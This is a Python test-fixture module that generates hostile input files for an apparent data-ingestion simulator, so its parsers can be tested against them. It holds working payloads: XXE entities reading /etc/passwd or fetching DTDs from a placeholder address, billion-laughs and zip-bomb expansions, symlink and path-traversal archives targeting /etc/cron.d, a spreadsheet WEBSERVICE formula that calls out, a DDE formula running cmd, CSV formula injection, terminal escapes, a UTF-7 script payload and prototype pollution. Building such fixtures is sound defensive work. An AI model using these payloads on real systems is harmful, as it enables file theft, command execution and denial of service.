"""Files with which an agency, or somebody posing as one, tries to read our files, call out, or stop a load. One entry per file.

Each is loaded as a delivery of every feed that could receive it; `{address}` is a server that must never be contacted.
"""

import gzip
import io
import json
import struct
import zipfile
import zlib
from base64 import b64encode
from collections.abc import Callable, Mapping
from functools import partial

from simulator.claim_files import file_element

Make = Callable[[str], bytes]

REQUESTS = (
    '<?xml version="1.0"?>{doctype}<service_requests><request><service_request_id>{value}</service_request_id></request>'
    "</service_requests>"
)
CLAIM = (
    "{doctype}<CHI_TIEU_TRANG_THAI_KCB><DSACH_TRANG_THAI_KCB><TRANG_THAI_KCB><MA_LK>{value}</MA_LK></TRANG_THAI_KCB>"
    "</DSACH_TRANG_THAI_KCB></CHI_TIEU_TRANG_THAI_KCB>"
)
SHEET = (
    '{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    '<c r="A1" t="str"><v>{value}</v></c></row></sheetData></worksheet>'
)

DOCTYPES: Mapping[str, tuple[str, str]] = {
    "a local file": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
    "a local file by public name": ('<!DOCTYPE a [<!ENTITY x PUBLIC "a" "file:///etc/passwd">]>', "&x;"),
    "a folder": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/">]>', "&x;"),
    "a web page": ('<!DOCTYPE a [<!ENTITY x SYSTEM "{address}/page">]>', "&x;"),
    "an outside definition": ('<!DOCTYPE a SYSTEM "{address}/evil.dtd">', "1"),
    "an outside parameter": ('<!DOCTYPE a [<!ENTITY % x SYSTEM "{address}/evil.dtd"> %x;]>', "1"),
    "a parameter out of a file": ('<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY x "%f;">]>', "&x;"),
    "a million laughs": (
        "<!DOCTYPE a [<!ENTITY l0 'ha'>"
        + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
        + "]>",
        "&l9;",
    ),
    "one long entity many times": ("<!DOCTYPE a [<!ENTITY x '" + "x" * 100_000 + "'>]>", "&x;" * 10_000),
    "an entity of itself": ("<!DOCTYPE a [<!ENTITY x '&x;'>]>", "&x;"),
    "a default attribute": ("<!DOCTYPE a [<!ATTLIST request id CDATA 'x'>]>", "1"),
    "an inclusion": (
        "",
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    ),
    "a style sheet": ('<?xml-stylesheet type="text/xsl" href="{address}/evil.xsl"?>', "1"),
    "a schema": (
        "",
        '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{address}/a.xsd"/>',
    ),
    "an undefined entity": ("", "&passwd;"),
}


def _requests(doctype: str, value: str, address: str) -> bytes:
    return REQUESTS.format(doctype=doctype, value=value).replace("{address}", address).encode()


def _claim(doctype: str, value: str, address: str) -> bytes:
    return _claims(CLAIM.format(doctype=doctype, value=value).replace("{address}", address))


def _attacked_sheet(doctype: str, value: str, address: str) -> bytes:
    return workbook(SHEET.format(doctype=doctype, value=value).replace("{address}", address))


def _claims(inner: str) -> bytes:
    return (
        "<GIAMDINHHS><THONGTINDONVI><MACSKCB>46001</MACSKCB></THONGTINDONVI><THONGTINHOSO><NGAYLAP>20261120</NGAYLAP>"
        f"<DANHSACHHOSO><HOSO>{file_element('XML0', inner)}</HOSO></DANHSACHHOSO></THONGTINHOSO></GIAMDINHHS>"
    ).encode()


def workbook(sheet: str, **members: str) -> bytes:
    """Return a workbook of one sheet with the given XML."""
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="a" Type="{relations}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{relations}">'
        '<sheets><sheet name="a" sheetId="1" r:id="b"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="b" '
        f'Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet,
        **members,
    }
    return archive({name: text.encode() for name, text in parts.items()})


def archive(members: Mapping[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return a zip archive."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression) as opened:
        for name, content in members.items():
            opened.writestr(name, content)
    return packed.getvalue()


def nested(levels: int) -> bytes:
    """Return nested archives, each holding ten copies of the next one."""
    inner = archive({"users.csv": b"0" * 1_000_000})
    for _ in range(levels):
        inner = archive({f"{number}.zip": inner for number in range(10)})
    return inner


def overlapping(members: int = 200, size: int = 1_000_000) -> bytes:
    """Return an archive whose members all share the same bytes: small on disk, large when unpacked."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = body.compress(b"0" * size) + body.flush()
    check = zlib.crc32(b"0" * size)
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, check, len(packed), size, 5, 0) + b"a.csv"
    central = b"".join(
        struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, check, len(packed), size, len(name), 0, 0, 0, 0, 0, 0
        )
        + name
        for name in (f"{number:03}.csv".encode() for number in range(members))
    )
    data = local + packed
    return data + central + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, members, members, len(central), len(data), 0)


def linked() -> bytes:
    """Return an archive whose member is a link to a file of the machine."""
    member = zipfile.ZipInfo("users.csv")
    member.create_system, member.external_attr = 3, 0o120777 << 16
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as opened:
        opened.writestr(member, "/etc/passwd")
    return packed.getvalue()


def _sheet(cells: str) -> bytes:
    return workbook(SHEET.format(doctype="", value="1").replace("</row>", f"</row>{cells}"))


FILES: dict[str, Make] = {
    **{f"requests: {name}": partial(_requests, *each) for name, each in DOCTYPES.items()},
    **{f"a claim's file: {name}": partial(_claim, *each) for name, each in DOCTYPES.items()},
    **{f"a sheet: {name}": partial(_attacked_sheet, *each) for name, each in DOCTYPES.items()},
    "a claim's file: no base64": lambda _: _claims("").replace(b"<NOIDUNGFILE>", b"<NOIDUNGFILE>*" * 50),
    "a claim's file: claims in claims": lambda _: _claims(_claims(_claims("<a/>").decode()).decode()),
    "a claim's file: a zip bomb": lambda _: _claims("").replace(b"<NOIDUNGFILE>", b"<NOIDUNGFILE>" + b64encode(nested(1))),
    "a sheet: a formula that calls": lambda a: _sheet(f'<row r="2"><c r="A2"><f>WEBSERVICE("{a}/x")</f><v>1</v></c></row>'),
    "a sheet: a formula that runs": lambda _: _sheet('<row r="2"><c r="A2" t="str"><f>cmd|\' /C calc\'!A0</f><v>x</v></c></row>'),
    "a sheet: the last cell there can be": lambda _: _sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "a sheet: a column past the last": lambda _: _sheet('<row r="2"><c r="ZZZZZZ2"><v>1</v></c></row>'),
    "a sheet: a text that is not there": lambda _: _sheet('<row r="2"><c r="A2" t="s"><v>4294967295</v></c></row>'),
    "a sheet: a number without end": lambda _: _sheet('<row r="2"><c r="A2"><v>' + "9" * 100_000 + "</v></c></row>"),
    "a workbook: a sheet by address": lambda a: workbook(
        "<a/>", **{"xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="b" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        f'Target="{a}/sheet.xml"/></Relationships>'}),
    "a workbook: a sheet of the machine": lambda _: workbook(
        "<a/>", **{"xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="b" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="../../../../etc/passwd"/></Relationships>'}),
    "a workbook: a million shared texts": lambda _: workbook(
        SHEET.format(doctype="", value="1"), **{"xl/sharedStrings.xml": "<sst>" + "<si><t/></si>" * 1_000_000 + "</sst>"}),
    "an archive: nested three deep": lambda _: nested(3),
    "an archive: members on one another": lambda _: overlapping(),
    "an archive: a link": lambda _: linked(),
    "an archive: out of its folder": lambda _: archive({"../../../../etc/cron.d/x": b"x"}),
    "an archive: a name with a zero": lambda _: archive({"users.csv": b"x"}).replace(b"users.csv", b"user\0.csv"),
    "an archive: no end": lambda _: archive({"users.csv": b"x"})[:-10],
    "an archive: a wrong checksum": lambda _: archive({"users.csv": b"xxxx"}, zipfile.ZIP_STORED).replace(b"xxxx", b"xxxy", 1),
    "an archive: zeros": lambda _: archive({"users.csv": b"\0" * 20_000_000}),
    "an archive: bzip2": lambda _: archive({"users.csv": b"0" * 5_000_000}, zipfile.ZIP_BZIP2),
    "an archive: ten thousand members": lambda _: archive({f"{number}.csv": b"" for number in range(10_000)}),
    "json: a million levels": lambda _: b"[" * 1_000_000,
    "json: closed levels": lambda _: b"[" * 100_000 + b"]" * 100_000,
    "json: a key a million times": lambda _: b"[{" + b",".join([b'"a":1'] * 1_000_000) + b"}]",
    "json: a million keys": lambda _: json.dumps([{str(number): 1 for number in range(300_000)}]).encode(),
    "json: a number that is none": lambda _: b'[{"lat":NaN,"long":Infinity,"x":-Infinity}]',
    "json: an exponent": lambda _: b'[{"lat":1e999999999,"long":-1e-999999999}]',
    "json: a long whole number": lambda _: b'[{"lat":' + b"9" * 1_000_000 + b"}]",
    "json: half a character": lambda _: b'[{"service_request_id":"\\ud800\\udc00\\ud800"}]',
    "json: a prototype": lambda _: b'[{"__proto__":{"admin":true},"constructor":{"prototype":{}}}]',
    "csv: quotes without end": lambda _: b'a,b\n"' + b"x" * 5_000_000,
    "csv: a field a line": lambda _: b"a" + b"," * 5_000_000,
    "csv: formulas": lambda _: b"station_id,station_name,timestamp,value\n=1+1,+1,-1,@SUM(1)\n",
    "csv: an escape of the terminal": lambda _: b"station_id,station_name\n\x1b]0;mine\x07\x1b[2J,\xe2\x80\xaeabc\n",
    "csv: only carriage returns": lambda _: b"a,b\r1,2\r" * 100_000,
    "csv: a header of one name": lambda _: b",".join([b"station_id"] * 5_000) + b"\n",
    "gzip: ten megabytes of one letter": lambda _: gzip.compress(b"a" * 10_000_000),
    "text: an overlong slash": lambda _: b"\xc0\xaf" * 10_000,
    "text: UTF-32": lambda _: "a,b\n".encode("utf-32"),
    "text: UTF-7": lambda _: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n",
    "text: marks without letters": lambda _: ("a" + "\u0301" * 500_000).encode(),
    "text: one line of a megabyte a field": lambda _: b"\t".join([b"9" * 1_000_000] * 5),
    "naf: fields without end": lambda _: b"//SR" + b"//XX/1" * 500_000,
    "nmea: a group of groups": lambda _: b"\\g:1-99999999-1*00\\!AIVDM,9,9,9,A," + b"w" * 100_000 + b",0*00\n",
    "nmea: fragments that never end": lambda _: b"".join(b"!AIVDM,9,1,%d,A,15,0*00\n" % (n % 10) for n in range(50_000)),
}  # fmt: skip
